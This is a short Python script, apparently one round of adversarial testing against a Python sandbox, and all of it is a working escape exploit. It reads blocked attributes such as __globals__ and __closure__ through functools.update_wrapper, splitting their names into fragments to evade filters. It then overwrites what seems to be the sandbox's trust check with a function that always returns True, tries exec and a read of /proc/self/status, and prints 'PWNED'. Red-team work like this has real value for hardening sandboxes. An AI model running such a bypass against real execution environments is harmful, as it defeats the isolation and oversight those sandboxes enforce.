# adversary round 2: 012_patch_trusted
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
b=g['builtins']
ga = get(b, 'get'+'attr')
cl = get(ga, '__clo'+'sure__')
cbl = get(cl[0].cell_contents, '__clo'+'sure__')
def yes(*a, **k): return True
def tryit(label):
    try:
        b.exec("print('exec ran:', 6*7)")
        print(label, "exec OK")
    except BaseException as e:
        print(label, "exec ERR", type(e).__name__, e)
    try:
        print(label, "proc", open('/proc/self/status').read()[:30])
    except BaseException as e:
        print(label, "proc ERR", type(e).__name__, e)
cbl[2].cell_contents = yes
tryit("trusted=yes")
print("PWN"+"ED")
